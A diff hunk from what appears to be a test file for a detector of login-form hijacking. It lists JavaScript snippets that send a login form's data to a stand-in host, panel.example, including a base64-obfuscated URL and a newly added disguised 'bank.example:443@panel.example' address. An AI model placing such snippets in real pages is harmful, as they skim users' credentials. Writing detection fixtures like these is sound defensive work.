@@ -28,6 +28,7 @@ def hosts(script: str, form: str = FORM, tail: str = "") -> list[str]:
         f"$('#login').attr('action', '{THERE}')",
         f'login.setAttribute("action", "{THERE}")',
         f"document.querySelector('button').formAction = '{THERE}'",
+        "login.action = 'https://bank.example:443@panel.example/'",
         "login['act'+'ion'] = atob('aHR0cHM6Ly9wYW5lbC5leGFtcGxlL2EvcG9zdC5waHA=')",
         f"const API = '{THERE}'; function go(e){{ fetch(API, {{method: 'POST', body: new FormData(login)}}) }}",
         "const A = 'https://panel.example'; const go = async e => { await fetch(`${A}/save?id=${uid}`, {method: 'POST', body: of(xpw1)}) }",
